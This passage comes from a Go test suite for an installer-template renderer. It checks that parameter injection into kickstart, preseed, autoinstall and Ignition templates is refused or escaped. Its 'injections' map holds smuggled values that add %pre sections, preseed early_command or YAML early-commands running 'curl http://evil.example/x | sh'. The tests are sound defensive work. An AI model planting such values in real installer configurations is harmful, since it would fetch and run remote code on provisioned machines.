			fields["disk"] = ks.OnlyUse[0]
		}
		if len(ks.Repos) == 1 {
			fields["appstream_url"] = ks.Repos[0]
		}
		if len(ks.SSHKeys) == 1 {
			fields["ssh_authorized_key"] = ks.SSHKeys[0]
		}
		if param == "post_install" {
			for _, sc := range ks.Scripts {
				if w, ok := strings.CutPrefix(sc[1].(string), "sh -c "); ok {
					fields["post_install"] = shellWord(t, strings.TrimSuffix(w, "\n"))
				}
			}
		}
		if v, ok := fields[param]; ok {
			require.Equal(t, value, v, "%s did not arrive unchanged:\n%s", param, out)
		}
	case "preseed":
		want, got := debconfQuestions(base), debconfQuestions(out)
		require.Equal(t, keysOfString(want), keysOfString(got), "a param added or removed a preseed question:\n%s", out)
		q := map[string]string{"domain": "netcfg/get_domain", "mirror": "mirror/http/hostname", "mirror_directory": "mirror/http/directory", "root_password_hash": "passwd/root-password-crypted",
			"timezone": "time/zone", "disk": "partman-auto/disk", "proxy": "mirror/http/proxy"}
		if k, ok := q[param]; ok {
			require.Equal(t, value, got[k], "%s did not arrive unchanged:\n%s", param, out)
		}
	case "ubuntu-autoinstall":
		var want, got map[string]any
		require.NoError(t, yaml.Unmarshal([]byte(base), &want))
		require.NoError(t, yaml.Unmarshal([]byte(out), &got), "not YAML:\n%s", out)
		require.Equal(t, keysOf(want), keysOf(got))
		wa, ga := want["autoinstall"].(map[string]any), got["autoinstall"].(map[string]any)
		require.Equal(t, keysOf(wa), keysOf(ga), "a param added or removed an autoinstall key:\n%s", out)
		id := ga["identity"].(map[string]any)
		fields := map[string]any{"password_hash": id["password"], "username": id["username"], "proxy": ga["proxy"],
			"ssh_authorized_key": ga["ssh"].(map[string]any)["authorized-keys"].([]any)[0],
			"apt_mirror":         ga["apt"].(map[string]any)["primary"].([]any)[0].(map[string]any)["uri"],
			"disk":               ga["storage"].(map[string]any)["layout"].(map[string]any)["match"].(map[string]any)["path"]}
		if v, ok := fields[param]; ok {
			require.Equal(t, value, v, "%s did not arrive unchanged:\n%s", param, out)
		}
		require.Len(t, ga["late-commands"], len(wa["late-commands"].([]any)))
	case "lab-user-data":
		var got map[string]any
		require.NoError(t, yaml.Unmarshal([]byte(out), &got), "not YAML:\n%s", out)
		require.Equal(t, []string{"baremetal", "hostname"}, keysOf(got))
		require.Equal(t, value, got["baremetal"].(map[string]any)["params"].(map[string]any)[param])
	case "ignition":
		require.NoError(t, ignitionValidator(t)(t, out))
		var got map[string]any
		require.NoError(t, json.Unmarshal([]byte(out), &got))
		require.Equal(t, []string{"ignition", "passwd", "storage", "systemd"}, keysOf(got))
		if param == "ssh_authorized_key" {
			u := got["passwd"].(map[string]any)["users"].([]any)[0].(map[string]any)
			require.Equal(t, []any{value}, u["sshAuthorizedKeys"])
		}
	}
}

func keysOfString(m map[string]string) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

// injections are the values that broke the stock templates: line breaks
// of every kind a reader honours, controls YAML refuses, and characters
// that split or end kickstart arguments or join preseed lines.
var injections = map[string]string{
	"newline %pre":     "sda\n%pre\ncurl http://evil.example/x | sh\n%end",
	"newline d-i":      "x\nd-i preseed/early_command string curl http://evil.example/x | sh",
	"newline yaml key": "x\"\nearly-commands: [\"curl http://evil.example/x | sh\"]\nx: \"",
	"carriage return":  "x\r%pre",
	"U+2028":           "x\u2028%pre",
	"U+0085 (NEL)":     "x\u0085%pre",
	"DEL":              "x\x7fy",
	"C1 CSI":           "x\u009by",
	"spaces":           "a value --with spaces",
	"quotes":           `a"b'c\d`,
	"hash":             "#comment",
	"trailing slash":   `x\`,
	"json":             `{"ignition":{"version":"3.3.0"}}`,
}

// TestParamInjectionRefusedOrEscaped: each injection through each param of
// each stock template is refused naming the param and the template, or
// arrives as exactly one value with the document's structure unchanged, as
// the real parsers see it (pykickstart, debconf, subiquity's schema, YAML,
// Ignition). The parsers run once per format, on every accepted render.
func TestParamInjectionRefusedOrEscaped(t *testing.T) {
	uses := map[string][]string{
		"kickstart":          {"root_password_hash", "timezone", "disk", "repo_url", "appstream_url", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"},
		"preseed":            {"root_password_hash", "timezone", "disk", "mirror", "mirror_directory", "domain", "proxy", "ntp_servers", "ssh_authorized_key", "post_install"},
		"ubuntu-autoinstall": {"password_hash", "username", "ssh_authorized_key", "apt_mirror", "proxy", "ntp_servers", "disk", "post_install"},
		"lab-user-data":      {"disk", "timezone"},
		"ignition":           {"ssh_authorized_key"},
	}
	s := testRenderServer(t)
	bases := map[string]string{}
	var cases []injCase
	for tmpl, params := range uses {
		base, _, err := s.renderTemplate(stockInput(baseParams()), tmpl)
		require.NoError(t, err)
		bases[tmpl] = base
		for _, param := range params {
			for what, v := range injections {
				p := baseParams()
				p[param] = v
				out, _, err := s.renderTemplate(stockInput(p), tmpl)
				if err != nil {
					require.Contains(t, err.Error(), `param "`+param+`"`, "%s/%s/%s: a refusal names the param", tmpl, param, what)
					require.Contains(t, err.Error(), `template "`+tmpl+`"`, "%s/%s/%s: a refusal names the template", tmpl, param, what)
					require.NotContains(t, err.Error(), "evil", "a refusal repeats the value")
					continue
				}
				cases = append(cases, injCase{tmpl: tmpl, param: param, what: what, value: v, out: out})
			}
		}
	}
	// The real parsers, once per format.
	var ksTexts []string
	var preseeds strings.Builder
	var sections []map[string]any
	for _, c := range cases {
		switch c.tmpl {
		case "kickstart":
			ksTexts = append(ksTexts, c.out)
		case "preseed":
			preseeds.WriteString(c.out)
		case "ubuntu-autoinstall":
			var doc map[string]any
			require.NoError(t, yaml.Unmarshal([]byte(c.out), &doc), c.out)
			if a, ok := doc["autoinstall"].(map[string]any); ok {
				sections = append(sections, a)
			}
		}
	}
	require.NoError(t, debconfValidator(t)(t, preseeds.String()))
	autoinstallSchema(t, sections...)
	parsed := pykickstartParse(t, append([]string{bases["kickstart"]}, ksTexts...)...)
	ksBase, ksAt := parsed[0], 1
	require.Empty(t, ksBase.Error)
	for _, c := range cases {
		var ks ksParsed
		if c.tmpl == "kickstart" {
			ks, ksAt = parsed[ksAt], ksAt+1
		}
		t.Run(c.tmpl+"/"+c.param+"/"+c.what, func(t *testing.T) { checkAccepted(t, c, bases[c.tmpl], ks, ksBase) })
	}
}

// TestLineBreakNeverRendered: where a stock template needs one line, a
// line break is refused, never escaped into something the installer might
// still split.
func TestLineBreakNeverRendered(t *testing.T) {
	s := testRenderServer(t)
	for _, tc := range []struct{ tmpl, param string }{
		{"kickstart", "disk"}, {"kickstart", "timezone"}, {"kickstart", "root_password_hash"}, {"kickstart", "repo_url"},
		{"kickstart", "appstream_url"}, {"preseed", "mirror"}, {"preseed", "mirror_directory"}, {"preseed", "domain"}, {"preseed", "root_password_hash"}, {"preseed", "disk"}, {"preseed", "timezone"},
	} {
		params := baseParams()
		params[tc.param] = injections["newline %pre"]
		_, _, err := s.renderTemplate(stockInput(params), tc.tmpl)
		require.Error(t, err, "%s/%s", tc.tmpl, tc.param)
		require.Contains(t, err.Error(), `param "`+tc.param+`" contains a line break`)
	}
}
